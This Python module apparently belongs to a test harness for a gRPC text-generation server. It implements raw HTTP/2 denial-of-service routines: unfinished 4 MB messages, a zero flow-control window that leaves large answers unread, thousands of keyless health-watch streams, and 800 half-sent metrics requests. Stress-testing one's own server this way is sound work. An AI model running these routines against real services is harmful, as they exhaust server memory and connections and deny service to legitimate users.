"""Callers that make the server hold memory for as long as they stay."""

import socket
from contextlib import suppress

from doherty.v1.generation_service_pb2 import MultiplexGenerateRequest, MultiplexStart
from doherty.v1.request_pb2 import GenerateRequest, Output, Stopping
from support.http2 import (
    ACK,
    END_HEADERS,
    END_STREAM,
    GREETING,
    PREFACE,
    Frame,
    Kind,
    RawConnection,
    frame,
    header_block,
    raw_connection,
)
from target import Attack, Target

FRAME_BYTES = 16_000
MESSAGE_BYTES = 4_000_000
FIRST_WINDOW = 65_535
INITIAL_WINDOW_SIZE = 4
"""The identifier of the setting in HTTP/2."""
NO_WINDOW = INITIAL_WINDOW_SIZE.to_bytes(2) + (0).to_bytes(4)
"""A setting with which the server may not send any data."""
ANSWERS, AT_ONCE = 40, 4
WATCHED_CONNECTIONS, STREAMS = 16, 512
SCRAPERS = 800

GENERATE = "/doherty.v1.GenerationService/Generate"
MULTIPLEX = "/doherty.v1.GenerationService/MultiplexGenerate"
CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"


class _Sender:
    """Sends as much on each stream of a connection as the flow control allows."""

    def __init__(self, connection: RawConnection) -> None:
        connection.send(GREETING)
        self._connection = connection
        self._frames = connection.frames()
        self._room = self._first = FIRST_WINDOW
        self._has_settings = False
        self._streams: dict[int, int] = {}

    def send(self, stream: int, headers: bytes, data: bytes) -> None:
        """Begins a call, and sends data until all is sent or the server ends the call."""
        self._connection.send(frame(Kind.HEADERS, END_HEADERS, stream, headers))
        self._streams[stream] = self._first
        at = 0
        while at < len(data) and stream in self._streams:
            room = min(self._room, self._streams[stream], FRAME_BYTES, len(data) - at)
            if room <= 0:
                self._handle(next(self._frames))
                continue
            self._connection.send(frame(Kind.DATA, 0, stream, data[at : at + room]))
            at += room
            self._room -= room
            self._streams[stream] -= room

    def _handle(self, received: Frame) -> None:
        if received.kind == Kind.SETTINGS and not received.flags & ACK:
            self._take_settings(received.payload)
        elif received.kind == Kind.WINDOW_UPDATE and not received.stream:
            self._room += int.from_bytes(received.payload)
        elif received.kind == Kind.WINDOW_UPDATE and received.stream in self._streams:
            self._streams[received.stream] += int.from_bytes(received.payload)
        elif received.kind == Kind.RST_STREAM or (received.kind == Kind.HEADERS and received.flags & END_STREAM):
            self._streams.pop(received.stream, None)

    def _take_settings(self, payload: bytes) -> None:
        for at in range(0, len(payload), 6):
            if int.from_bytes(payload[at : at + 2]) == INITIAL_WINDOW_SIZE:
                first = int.from_bytes(payload[at + 2 : at + 6])
                self._streams = {stream: room + first - self._first for stream, room in self._streams.items()}
                self._first = first
        if self._has_settings:  # the greeting has acknowledged the first ones
            self._connection.send(frame(Kind.SETTINGS, ACK))
        self._has_settings = True


def unfinished(method: str, calls: int, *, with_key: bool = True) -> Attack:
    """Sends all but the last byte of several messages on one connection."""
    data = _message(bytes(MESSAGE_BYTES))[:-1]

    def attack(target: Target) -> None:
        sender = _Sender(target.held.enter_context(raw_connection(target.address)))
        headers = _headers(method, target.key if with_key else "")
        with suppress(StopIteration, OSError):  # the server may end the connection, or not read any more
            for stream in range(1, 2 * calls, 2):
                sender.send(stream, headers, data)

    return attack


LONG = GenerateRequest(
    prompt="a", stopping=Stopping(max_output_tokens=8000, ignore_eos=True), output=Output(top_logprobs=20)
)


def unread_answers(target: Target) -> None:
    """Requests whole answers of some megabytes, a few at a time, and reads none of them."""
    message = _message(LONG.SerializeToString())
    connection = target.held.enter_context(raw_connection(target.address))
    connection.send(PREFACE, frame(Kind.SETTINGS, payload=NO_WINDOW), frame(Kind.SETTINGS, ACK))
    frames = connection.frames()
    for first in range(1, 2 * ANSWERS, 2 * AT_ONCE):
        streams = set(range(first, first + 2 * AT_ONCE, 2))
        for stream in streams:
            connection.send(
                frame(Kind.HEADERS, END_HEADERS, stream, _headers(GENERATE, target.key)),
                frame(Kind.DATA, END_STREAM, stream, message),
            )
        while streams:  # an answer's headers come when the answer is there
            received = next(frames)
            if received.kind == Kind.HEADERS:
                streams.discard(received.stream)


def unread_multiplexed_answers(target: Target) -> None:
    """Does the same on MultiplexGenerate, with several answers per RPC. The server ends RPCs that nobody reads."""
    message = MultiplexGenerateRequest(
        starts=[MultiplexStart(id=number, request=LONG, whole=True) for number in range(1, AT_ONCE + 1)]
    ).SerializeToString()
    connection = target.held.enter_context(raw_connection(target.address))
    connection.send(PREFACE, frame(Kind.SETTINGS, payload=NO_WINDOW), frame(Kind.SETTINGS, ACK))
    frames = connection.frames()
    for stream in (1, 3):
        connection.send(
            frame(Kind.HEADERS, END_HEADERS, stream, _headers(MULTIPLEX, target.key)),
            frame(Kind.DATA, END_STREAM, stream, _message(message)),
        )
        next((received for received in frames if received.kind == Kind.RST_STREAM), None)


def watches(target: Target) -> None:
    """Watches the health without a key, with as many calls per connection as HTTP/2 allows here."""
    for _ in range(WATCHED_CONNECTIONS):
        connection = target.held.enter_context(raw_connection(target.address))
        with suppress(OSError):  # the server may close the connection
            connection.send(GREETING)
            for stream in range(1, 2 * STREAMS, 2):
                connection.send(
                    frame(Kind.HEADERS, END_HEADERS, stream, _headers(WATCH)),
                    frame(Kind.DATA, END_STREAM, stream, _message(b"")),
                )


def half_scrapes(target: Target) -> None:
    """Opens connections to the metrics port, and sends half a request on each."""
    host, _, port = target.metrics.rpartition(":")
    for _ in range(SCRAPERS):
        with suppress(OSError):
            connection = target.held.enter_context(socket.create_connection((host, int(port)), timeout=10))
            connection.sendall(b"GET /metr")


def _headers(method: str, key: str = "") -> bytes:
    return header_block(method, *([("authorization", f"Bearer {key}")] if key else []))


def _message(data: bytes) -> bytes:
    return b"\0" + len(data).to_bytes(4) + data


UNREAD = "40 answers that nobody reads"
MULTIPLEXED = "8 multiplexed answers that nobody reads"
LONG_ANSWERS = (UNREAD, MULTIPLEXED)

HOLDING: dict[str, Attack] = {
    "150 unfinished messages, multiplexed": unfinished(MULTIPLEX, 150),
    "150 unfinished messages without a key": unfinished(CHECK, 150, with_key=False),
    UNREAD: unread_answers,
    MULTIPLEXED: unread_multiplexed_answers,
    "8,192 watches without a key": watches,
    "800 half requests for metrics": half_scrapes,
}
